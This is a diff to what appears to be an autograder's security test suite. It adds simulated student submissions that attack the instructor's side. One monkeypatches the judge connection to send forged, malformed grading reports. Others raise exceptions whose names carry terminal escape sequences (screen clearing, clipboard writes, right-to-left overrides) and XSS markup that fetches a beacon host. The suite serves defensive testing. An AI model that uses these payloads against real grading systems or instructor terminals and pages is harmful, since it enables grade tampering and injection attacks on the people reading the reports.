@@ -1968,7 +1968,72 @@ FOLDERS = [
 ]
 
 
-ATTACKS = HOOKS + JUDGE + FILES + PROCESSES + DISRUPTIVE + KILL + THIRD_ROUND + FOLDERS
+# -- what the instructor reads (issue 34): a kernel's reports whose fields no message can take, and
+# names of the student's choosing full of escape sequences and markup, for the class report, the
+# instructor's terminal and the pages. ----------------------------------------------------------
+UNRENDERABLE = '''
+from autograder.kernel import connection as _zz_connection
+def _zz_nested(levels):
+    value = "x"
+    for _ in range(levels):
+        value = {"$key": "loop.list_holding", "fields": {"type": value}}
+    return value
+_zz_STEP = {"where": "w", "used": "u", "expected": "e", "backward_where": "b"}
+_zz_FORGED = [  # one class of what no template can take (or no kernel may say) per report, in turn
+    {"ok": False, "mistake": "step_count", "key": "loop.step_count", "fields": {
+        "got": 10**400, "count": 10**400, "batches": 4, "expected": 4, "where": "w", "rule": {"$key": "loop.rule_batch"}}},
+    {"ok": False, "mistake": "losses_values", "key": "loop.losses_values", "fields": {"batch": 1, "got": 10**400, "expected": 1.0}},
+    {"ok": False, "mistake": "cleared_once", "key": "loop.cleared_once", "fields": dict(_zz_STEP, step=float("nan"))},
+    {"ok": False, "mistake": "crashed", "key": "loop.crashed", "fields": {"error": "E", "where": _zz_nested(150), "text": "t"}},
+    {"ok": False, "mistake": "crashed", "key": "loop.crashed", "fields": {"error": "E", "where": "w", "text": "x" * 900_000}},
+    {"ok": False, "mistake": "crashed", "key": "quiz.right", "fields": {"question": 1, "title": "<b>zz</b>"}},
+    {"ok": False, "mistake": "crashed", "key": "cli.bad_secret", "fields": {"reason": "zz"}},
+    {"ok": False, "mistake": "<script>zz</script>", "key": "loop.crashed", "fields": {
+        "error": "E", "where": "w", "text": "{0:>999999999}{text:>99999999}", "count": 10**400, "zz": 1}},
+    {"ok": False, "mistake": "cleared_once", "key": "loop.cleared_once", "fields": dict(_zz_STEP, step=True)},
+]
+_zz_sent = [0]
+_zz_report = _zz_connection.RemoteJudge.report
+def _zz_forge(self, token, observation):
+    forged = _zz_FORGED[_zz_sent[0] % len(_zz_FORGED)]
+    _zz_sent[0] += 1
+    if isinstance(observation, dict) and "diagnosis" in observation:  # a training loop's: only its diagnosis
+        return _zz_report(self, token, dict(observation, diagnosis=forged))
+    return _zz_report(self, token, {"error": forged})
+_zz_connection.RemoteJudge.report = _zz_forge
+'''
+ESCAPES = "\\x1b[2J\\x1b[H\\x1b]0;zz-pwned\\x07\\x1b]52;c;enotcHduZWQ=\\x07\\x9b31m\\u202e\\r\\x08"  # (as Python source)
+ESCAPED_NAMES = f'''
+_zz_NAME = "{ESCAPES}<img src=x onerror=fetch('{BEACON}ename')>Zz"
+_zz_check = check_fit_line
+def check_fit_line(*args, **kwargs):
+    _zz_check(*args, **kwargs)
+    if kwargs.get("cases") == "hidden":  # (both checks passed in the judge: the cell's error is its own)
+        raise type(_zz_NAME, (Exception,), {{}})("{ESCAPES}" + "zz " * 2000)
+'''
+RAISES_ESCAPED = f'''
+def fit_line(w, b, xs, ys, lr, steps):
+    raise type("{ESCAPES}Zz" + "z" * 5000, (Exception,), {{}})("{ESCAPES}<script>fetch('{BEACON}raise')</script>")
+'''
+
+READ_BY_THE_INSTRUCTOR = [
+    Attack("reports_what_no_message_takes", "class", {"train_loop": HONEST + UNRENDERABLE, "fit_line": WRONG_FIT},
+           FIT, "every report it sends the judge is a failure no template can take or no kernel may give: 10**400 in "
+           "a plural's count and in a :.6g, NaN and True for a step, messages nested 150 deep, 900 kB of text, "
+           "another section's message, format specs and a field no message has: each fit_line report is refused "
+           "(0), each train_loop diagnosis is dropped (its right loop still passes), and the class report is written"),
+    Attack("names_its_error_with_escapes", "class", {"fit_line": HONEST + ESCAPED_NAMES}, FIT,
+           "its fit_line test cell ends in an error (0) whose class name and text hold escape sequences (clear the "
+           "screen, set the window's title, write the clipboard, CSI, a right-to-left override, a carriage return, "
+           "a backspace) and markup: the class summary names it, and the instructor's terminal gets text only"),
+    Attack("raises_an_escaped_exception", "class", {"fit_line": RAISES_ESCAPED}, FIT,
+           "its fit_line raises an exception whose 5 000-character class name and text hold escape sequences and "
+           "markup: the kernel's report keeps 100 characters of the name, the judge takes it, it costs fit_line "
+           "only, and nothing of it is live on a page or reaches the terminal"),
+]
+
+
+ATTACKS = HOOKS + JUDGE + FILES + PROCESSES + DISRUPTIVE + KILL + THIRD_ROUND + FOLDERS + READ_BY_THE_INSTRUCTOR
 BY_NAME = {a.name: a for a in ATTACKS}
 RUNS = sorted({a.run for a in ATTACKS}, key=[a.run for a in ATTACKS].index)
 assert len(BY_NAME) == len(ATTACKS), "attack names must be unique"
